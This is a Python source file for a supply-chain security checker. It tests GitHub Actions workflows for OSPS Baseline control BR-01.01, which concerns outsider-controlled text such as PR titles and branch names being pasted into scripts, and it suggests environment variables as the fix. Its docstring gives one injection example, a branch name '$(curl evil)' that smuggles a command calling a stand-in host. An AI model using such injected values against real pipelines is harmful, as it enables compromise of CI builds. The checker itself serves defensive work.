"""OSPS-BR-01.01: what strangers write is not pasted into scripts.

Question:
    Is everything that strangers can write kept out of the pipelines' scripts?

Why it matters:
    A branch name such as `$(curl evil)` becomes a command when it is pasted into a script. It takes one pull
    request.

How it is counted:
    Every `run` and every script of actions/github-script in `.github/workflows` is searched for expressions
    with titles, texts, branch names, messages or e-mails that anybody can write. One is a no.

What it does not tell:
    What scripts do with such values after they came through an environment variable, composite actions, and
    other build services.

References:
    OSPS Baseline: https://baseline.openssf.org/versions/2026-02-19#osps-br-0101
"""

from folkmoot.checks.osps._ci_risks import STRANGERS, pasted
from folkmoot.checks.osps._requirement import requirement

CHECK = requirement(
    __doc__,
    (
        pasted(
            STRANGERS,
            bad="{path} pastes what strangers write into a script.",
            good="Workflows looked at: {count}; no script has what strangers write pasted into it.",
        ),
    ),
    remedy=(
        "Hand the value over as an environment variable and quote it: `env: {TITLE: ${{ "
        'github.event.pull_request.title }}}`, then `"$TITLE"` in the script.'
    ),
    effort="half an hour for each",
    settle=(
        "Hand such values over as environment variables; where another service builds, say in CONTRIBUTING "
        "how it treats what strangers write."
    ),
)
